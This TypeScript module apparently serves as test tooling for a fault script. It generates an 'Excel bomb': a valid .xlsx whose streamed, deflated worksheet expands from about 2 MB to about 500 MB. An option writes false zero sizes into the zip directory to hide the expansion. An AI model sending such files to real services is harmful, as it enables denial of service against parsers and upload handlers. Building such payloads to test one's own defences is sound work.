// An "Excel bomb" for the fault script and the tests: a valid .xlsx whose one worksheet holds
// `rows` × `cols` numeric cells. The sheet XML is deflated as it is generated, so a 340,000 × 100
// sheet (≈ 500 MB of XML) becomes a ≈ 2 MB file without ever being in memory.
//
// `lie: true` writes 0 as every part's size in the zip's central directory (the local headers
// keep the real sizes, which a streaming reader uses): a bomb that does not say what it is.
// `withRefs: false` leaves out the cell references (`<c><v>1</v></c>`, allowed by the format):
// the smallest XML per cell, as in the red-team report.
import { crc32, deflateRawSync, createDeflateRaw } from "node:zlib";

type Part = { name: string; data: Buffer; size: number; crc: number };

const text = (name: string, xml: string): Part => {
  const raw = Buffer.from(xml);
  return { name, data: deflateRawSync(raw), size: raw.length, crc: crc32(raw) };
};

const colName = (c: number) => {
  let s = "";
  for (let n = c; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
};

async function sheetPart(rows: number, cols: number, withRefs: boolean, level: number): Promise<Part> {
  const deflate = createDeflateRaw({ level });
  const out: Buffer[] = [];
  deflate.on("data", (b: Buffer) => out.push(b));
  const done = new Promise((ok, fail) => (deflate.on("end", ok), deflate.on("error", fail)));
  let size = 0;
  let crc = 0;
  const write = async (s: string) => {
    const b = Buffer.from(s);
    size += b.length;
    crc = crc32(b, crc);
    if (!deflate.write(b)) await new Promise((ok) => deflate.once("drain", ok));
  };
  const names = Array.from({ length: cols }, (_, i) => colName(i + 1));
  await write(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
  );
  const plainRow = "<c><v>1</v></c>".repeat(cols);
  let batch = "";
  for (let r = 1; r <= rows; r++) {
    batch += withRefs
      ? `<row r="${r}">${names.map((n) => `<c r="${n}${r}"><v>1</v></c>`).join("")}</row>`
      : `<row r="${r}">${plainRow}</row>`;
    if (batch.length > 1 << 20) {
      await write(batch);
      batch = "";
    }
  }
  await write(batch + "</sheetData></worksheet>");
  deflate.end();
  await done;
  return { name: "xl/worksheets/sheet1.xml", data: Buffer.concat(out), size, crc };
}

function zip(parts: Part[], lie: boolean): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(0x0800, 6); // UTF-8 names
    h.writeUInt16LE(8, 8); // deflate
    h.writeUInt32LE(p.crc >>> 0, 14);
    h.writeUInt32LE(p.data.length, 18);
    h.writeUInt32LE(p.size, 22);
    h.writeUInt16LE(name.length, 26);
    local.push(h, name, p.data);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(0x0800, 8);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(p.crc >>> 0, 16);
    c.writeUInt32LE(p.data.length, 20);
    c.writeUInt32LE(lie ? 0 : p.size, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, name);
    offset += h.length + name.length + p.data.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, dir, end]);
}

/** `level`: deflate level; 9 gives the report's 2.1 MB for 340,000 × 100 (≈ 10 s), 1 gives 3.2 MB (≈ 3 s). */
export type BombOptions = { rows: number; cols: number; lie?: boolean; withRefs?: boolean; level?: number };

/** The .xlsx bytes and the size its sheet expands to. */
export async function excelBomb({ rows, cols, lie = false, withRefs = false, level = 1 }: BombOptions) {
  const ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const sheet = await sheetPart(rows, cols, withRefs, level);
  const parts = [
    text(
      "[Content_Types].xml",
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    ),
    text(
      "_rels/.rels",
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    text(
      "xl/_rels/workbook.xml.rels",
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${ns}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${ns}/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
    ),
    text(
      "xl/workbook.xml",
      `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${ns}"><sheets><sheet name="DS" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    text(
      "xl/sharedStrings.xml",
      '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"></sst>',
    ),
    sheet,
  ];
  return { file: zip(parts, lie), expandedBytes: sheet.size };
}
